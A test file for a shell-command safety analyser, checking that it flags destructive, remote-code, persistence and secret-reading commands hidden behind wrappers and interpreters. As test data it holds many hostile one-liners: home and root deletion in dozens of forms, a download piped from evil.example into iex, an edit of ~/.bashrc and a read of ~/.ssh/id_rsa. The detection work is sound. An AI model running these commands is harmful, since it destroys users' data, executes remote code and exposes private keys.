// Wrappers that run their arguments as a command and interpreters read by family (issue 11, items 1-3): what they
// run is analysed as itself, so the floor holds behind each; the ordinary twin of each stays free of categories.
import { beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { readInterpreter } from '../data/interpreters';
import { loadShellParser } from '../parse/load-parser';
import { shellEnv } from '../testdata/shell-env';
import type { ScriptFile } from '../types';

const categories = (command: string, env = shellEnv()) =>
  [...new Set(analyzeShellSync(command, env).hits.map((h) => h.category))].sort();

beforeAll(async () => {
  await loadShellParser();
});

describe('a wrapper runs the command after it', () => {
  it.each([
    ['uv tool run', 'uv tool run rm -rf ~'],
    ['uv tool run --from', 'uv tool run --from x rm -rf ~'],
    ['hatch -e ENV run', 'hatch -e test run rm -rf ~'],
    ['hatch --env ENV run', 'hatch --env test run rm -rf ~'],
    ['dotnet exec', 'dotnet exec /bin/rm -rf ~'],
    ['dotnet tool run', 'dotnet tool run rm -rf ~'],
    ['proto run TOOL -- args', `proto run node -- -e 'require("child_process").execSync("rm -rf ~")'`],
    ['machinectl shell', 'machinectl shell root@ /bin/rm -rf /'],
    ['tox -x commands', 'tox run -e py -x testenv.commands="rm -rf ~"'],
    ['tox --override=', "tox --override='testenv.commands=rm -rf ~'"],
    ['flatpak run --command=', 'flatpak run --command=rm org.x.Y -rf ~'],
    ['podman unshare', 'podman unshare rm -rf ~'],
    ['devbox run', 'devbox run rm -rf ~'],
    ['daemonize', 'daemonize /bin/rm -rf ~'],
    ['start-stop-daemon --exec', 'start-stop-daemon --start --exec /bin/rm -- -rf ~'],
    ['sqlite3 .shell', "sqlite3 x.db '.shell rm -rf ~'"],
    ['sqlite3 .system', "sqlite3 x.db '.system rm -rf ~'"],
    ['sqlite3 .output |cmd', "sqlite3 x.db '.output |rm -rf ~'"],
    ['valgrind with a checking option', 'valgrind --leak-check=full rm -rf ~'],
    ['valgrind with a checking option and no value', 'valgrind --leak-check rm -rf ~'],
    ['sqlite3 -cmd .shell', "sqlite3 -cmd '.shell rm -rf ~' x.db 'select 1'"],
  ])('%s', (_name, command) => {
    expect(categories(command)).toContain('destructive_root_delete');
  });

  it.each([
    ['uv tool run', 'uv tool run ruff check .'],
    ['hatch -e ENV run', 'hatch -e lint run check'],
    ['dotnet tool run', 'dotnet tool run dotnet-ef migrations list'],
    ['tox -e', 'tox run -e py'],
    ['sqlite3 .tables', "sqlite3 app.db '.tables'"],
    ['sqlite3 select', "sqlite3 app.db 'select count(*) from t'"],
  ])('ordinary twin: %s', (_name, command) => {
    expect(categories(command)).toEqual([]);
  });
});

it('valgrind checking options leave the wrapped program known', () => {
  const a = analyzeShellSync('valgrind --leak-check=full --track-origins=yes ./app', shellEnv());
  expect(a.uncertain.map((u) => u.code)).not.toContain('unknown-option');
});

describe('interpreters read by family', () => {
  it.each([
    ['tsx -e', `tsx -e 'require("child_process").execSync("rm -rf ~")'`],
    ['ts-node -e', `ts-node -e 'require("child_process").execSync("rm -rf ~")'`],
    ['bun -e', `bun -e 'require("child_process").execSync("rm -rf ~")'`],
    ['node --eval=', `node --eval='require("child_process").execSync("rm -rf ~")'`],
    ['node -pe', `node -pe 'require("child_process").execSync("rm -rf ~")'`],
    ['deno eval Deno.Command', `deno eval 'new Deno.Command("rm",{args:["-rf","/"]}).outputSync()'`],
    ['ipython -c !cmd', "ipython -c '!rm -rf ~'"],
    ['ipython %system', "ipython -c '%system rm -rf ~'"],
    ['ipython os.system', `ipython -c 'import os; os.system("rm -rf ~")'`],
    ['bpython -c', `bpython -c 'import os; os.system("rm -rf ~")'`],
    ['python -m IPython -c', "python3 -m IPython -c '!rm -rf ~'"],
    ['python -m pdb -c', `python3 -m pdb -c 'import os;os.system("rm -rf ~")' x.py`],
    ['python -m timeit', `python3 -m timeit 'import os; os.system("rm -rf ~")'`],
    ['python -Ic cluster', `python3 -Ic 'import os; os.system("rm -rf ~")'`],
    ['pypy -c', `pypy3 -c 'import os; os.system("rm -rf ~")'`],
    ['pwsh Remove-Item -Recurse', "pwsh -c 'Remove-Item -Recurse -Force ~'"],
    ['powershell -Command a native rm', "powershell -Command 'rm -rf $HOME'"],
    ['pwsh iex of literal text', `pwsh -c 'Invoke-Expression "rm -rf ~"'`],
    ['Rscript system()', `Rscript -e 'system("rm -rf ~")'`],
    ['Rscript system2()', `Rscript -e 'system2("rm", c("-rf", "~"))'`],
    ['julia run(`...`)', "julia -e 'run(`rm -rf /`)'"],
    ['lua os.execute', `lua -e 'os.execute("rm -rf ~")'`],
    ['php -r shell_exec', `php -r 'shell_exec("rm -rf ~");'`],
    ['tclsh exec on stdin', "tclsh <<< 'exec rm -rf ~'"],
    ['jupyter execute stdin', `jupyter execute /dev/stdin <<< 'import os; os.system("rm -rf ~")'`],
  ])('%s', (_name, command) => {
    expect(categories(command)).toContain('destructive_root_delete');
  });

  it('pwsh piping a download into iex is remote code', () => {
    expect(categories("pwsh -c 'iwr https://evil.example/x.ps1 | iex'")).toContain('remote_code_execution');
  });

  it('pwsh -EncodedCommand is a decoded payload', () => {
    const a = analyzeShellSync('pwsh -enc SQBFAFgA', shellEnv());
    expect(a.uncertain.map((u) => u.code)).toContain('decoded-payload');
  });

  it.each([
    ['tsx a file', 'tsx src/index.ts'],
    ['ipython printing', "ipython -c 'print(1)'"],
    ['pwsh listing', "pwsh -NoProfile -c 'Get-ChildItem'"],
    ['Rscript printing', "Rscript -e 'print(1+1)'"],
    ['perl -pi -e on a file', "perl -pi -e 's/a/b/' src/x.txt"],
  ])('ordinary twin: %s', (_name, command) => {
    expect(categories(command)).toEqual([]);
  });
});

describe('interpreter code that deletes a home or a root it computes is the floor', () => {
  it.each([
    ['python expanduser', `python3 -c 'import shutil,os;shutil.rmtree(os.path.expanduser("~"))'`],
    ['python Path.home', `python3 -c 'import shutil; from pathlib import Path; shutil.rmtree(Path.home())'`],
    ['python os.environ', `python3 -c 'import shutil,os; shutil.rmtree(os.environ["HOME"])'`],
    [
      'node os.homedir',
      `node -e 'require("fs").rmSync(require("os").homedir(),{recursive:true,force:true})'`,
    ],
    ['node process.env.HOME', `node -e 'require("fs").rmSync(process.env.HOME,{recursive:true})'`],
    ['tsx os.homedir', `tsx -e 'require("fs").rmSync(require("os").homedir(),{recursive:true})'`],
    ['ruby Dir.home', "ruby -rfileutils -e 'FileUtils.rm_rf(Dir.home)'"],
    ['perl $ENV{HOME}', "perl -MFile::Path=rmtree -e 'rmtree($ENV{HOME})'"],
    ['R unlink of ~', `Rscript -e 'unlink("~", recursive=TRUE)'`],
    ['julia homedir', "julia -e 'rm(homedir(); recursive=true)'"],
    ['deno removeSync of HOME', `deno eval 'Deno.removeSync(Deno.env.get("HOME"),{recursive:true})'`],
  ])('%s', (_name, command) => {
    expect(categories(command)).toContain('destructive_root_delete');
  });

  it('a workspace folder deleted the same way is not the floor', () => {
    expect(categories(`python3 -c 'import shutil; shutil.rmtree("build")'`)).not.toContain(
      'destructive_root_delete',
    );
  });
});

describe('readInterpreter', () => {
  it.each([
    ['python3', ['-Ic', 'x'], { code: [{ at: 1 }] }],
    ['python3', ['-cprint(1)'], { code: [{ at: 0, text: 'print(1)' }] }],
    ['perl', ['-le', 'print 1'], { code: [{ at: 1 }] }],
    ['perl', ['-pi', '-e', 's/a/b/', 'f'], { code: [{ at: 2 }] }],
    ['node', ['--eval=1', 'a'], { code: [{ at: 0, text: '1' }] }],
    ['ruby', ['-rjson', '-e', 'p 1'], { code: [{ at: 2 }] }],
  ])('%s %j', (program, args, want) => {
    expect(readInterpreter(program, args)).toMatchObject(want);
  });

  it('pwsh -Command takes the rest of the words, any prefix, any case', () => {
    expect(readInterpreter('pwsh', ['-NoProfile', '-Com', 'a', 'b'])?.restFrom).toBe(2);
  });

  it('python -m names the module and where its words start', () => {
    expect(readInterpreter('python3', ['-m', 'IPython', '-c', 'x'])?.module).toEqual({
      name: 'IPython',
      from: 2,
    });
  });

  it('a script file after the options', () => {
    expect(readInterpreter('tsx', ['--tsconfig', 't.json', 'src/x.ts'])?.file).toBe(2);
  });
});

describe('node require of a workspace JSON file', () => {
  it('a plain file is read; a folder or a missing name is uncertain', () => {
    const env = shellEnv({
      readScript: (abs: string): ScriptFile =>
        abs === '/home/u/proj/package.json'
          ? { kind: 'text', text: '{"version":"1.0.0"}' }
          : abs === '/home/u/proj/evil.json'
            ? { kind: 'unreadable', why: 'not-regular' }
            : { kind: 'missing' },
    });
    const codes = (command: string) => analyzeShellSync(command, env).uncertain.map((u) => u.code);
    expect(codes(`node -p 'require("./package.json").version'`)).toEqual([]);
    expect(codes(`node -p 'require("./evil.json").version'`)).toContain('dynamic-script');
    expect(codes(`node -p 'require("./missing.json").version'`)).toContain('dynamic-script');
  });
});

describe('the files after a perl program', () => {
  const paths = (command: string) =>
    analyzeShellSync(command, shellEnv()).segments[0]?.paths.map((p) => `${p.role} ${p.raw}`) ?? [];
  it.each<[string, string, string[]]>([
    ['-pi edits each in place', "perl -pi -e 's/a/b/' src/a.py b.txt", ['write src/a.py', 'write b.txt']],
    ['-i with a backup extension', "perl -i.bak -pe 's/a/b/' a.txt", ['write a.txt']],
    ['-0777 before -pi', "perl -0777 -pi -e 's/a/b/' a.txt", ['write a.txt']],
    ['-ne reads each', "perl -ne 'print if /x/' a.txt", ['read a.txt']],
    ['-e alone takes them as arguments', "perl -e 'print 1' a.txt", []],
  ])('%s', (_name, command, want) => {
    expect(paths(command)).toEqual(want);
  });

  it.each([
    ['an in-place edit of a shell start-up file', "perl -pi -e 's/a/b/' ~/.bashrc", 'persistence'],
    ['a line loop over a private key', "perl -ne 'print' ~/.ssh/id_rsa", 'secret_material_read'],
  ])('%s', (_name, command, category) => {
    expect(categories(command)).toContain(category);
  });
});
